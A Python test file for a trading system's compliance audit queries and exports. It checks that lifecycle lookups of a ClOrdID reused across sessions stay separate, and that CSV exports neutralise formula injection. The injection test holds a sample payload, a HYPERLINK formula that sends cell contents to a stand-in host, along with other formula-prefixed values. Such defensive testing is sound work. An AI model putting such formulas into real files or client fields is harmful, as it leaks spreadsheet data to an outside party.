"""Third review of the compliance read side (lifecycle, exports, the HTTP compliance API): each
test shows a defect a compliance officer would have hit, on data written by a real engine
(helpers of test_audit_queries / test_audit_review)."""
from __future__ import annotations

import csv
import io

import pytest

from oms_trading.audit import queries as Q

from .test_audit_queries import MIN, S1, S2, T0, _new
from .test_audit_review import _open, _run


@pytest.fixture(scope="module")
def reused(tmp_path_factory):
    """S1's order A is accepted; S2 sends its own NewOrderSingle with ClOrdID A, rejected on
    receipt (price collar), so its rows carry no order_id."""
    data = tmp_path_factory.mktemp("reused")
    _run(data, [
        _new("A", "1", 100, "185.00", ts=T0),
        _new("A", "1", 100, "1.00", session=S2, account="ACC2", ts=T0 + MIN),
    ])
    proj, con = _open(data)
    yield con
    con.close()
    proj.close()


def test_lifecycle_of_a_cl_ord_id_another_session_used_for_a_rejected_order_is_not_merged(reused):
    """A ClOrdID is unique per session only. Without --session, S2's rejected order A (no
    order_id) was shown inside S1's order 1 as if that order had been received again and
    rejected by the price collar."""
    con = reused
    with pytest.raises(Q.QueryError, match="session"):
        Q.lifecycle(con, cl_ord_id="A")
    assert [(r["type"], r["session"]) for r in Q.lifecycle(con, cl_ord_id="A", session=S1)] == [
        ("order_received", S1), ("order_accepted", S1)]
    assert [(r["type"], r["session"]) for r in Q.lifecycle(con, cl_ord_id="A", session=S2)] == [
        ("order_received", S2), ("order_rejected", S2)]


def test_csv_export_neutralizes_formulas_from_clients(tmp_path):
    """`oms audit export --format csv` (and /api/audit/export) wrote a client's ClOrdID or
    Account as sent: a spreadsheet opening the file runs =HYPERLINK(...) (CSV injection, which
    the EOD report's CSV already guards against). Numbers such as a price -5 stay numbers."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    _run(tmp_path, [
        _new(evil, "1", 10, "185.00", ts=T0),                                    # accepted, rests
        _new("+R-1", "1", 10, "185.00", account="@SUM(1+1)", ts=T0 + MIN),       # unknown account
        _new("R-3", "1", 10, "-5", ts=T0 + 2 * MIN),                             # negative: a number
    ])
    proj, con = _open(tmp_path)
    try:
        buf = io.BytesIO()
        n = Q.export(con, "csv", buf)
        raw = io.BytesIO()
        Q.export(con, "parquet", raw)
    finally:
        con.close()
        proj.close()
    rows = list(csv.DictReader(io.StringIO(buf.getvalue().decode())))
    assert len(rows) == n
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c != "-5")]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells and "'+R-1" in cells and "-5" in cells
    import pyarrow.parquet as pq
    assert evil in pq.read_table(io.BytesIO(raw.getvalue())).column("cl_ord_id").to_pylist()  # exact there
